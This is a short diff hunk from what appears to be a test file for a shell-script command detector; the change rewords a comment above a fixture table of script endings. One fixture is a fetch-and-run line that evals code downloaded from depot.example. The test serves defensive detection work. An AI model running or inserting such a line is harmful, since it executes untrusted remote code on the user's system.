@@ -3,7 +3,7 @@ import { longScript } from "../../bench/long-script.js";
 import { sharedDetector } from "../support/marked.js";
 import { assertSound } from "./invariants.js";
 
-/** Commands after the functions of a script; the marked one is in functions that were called many times before. */
+/** Commands after the functions of a script. The marked command is in a function that other functions called many times before. */
 const endings: Readonly<Record<string, string>> = {
   "a function that fetches": '«eval "$(_fetch https://depot.example/x)"»\n',
   "a function that executes its argument":
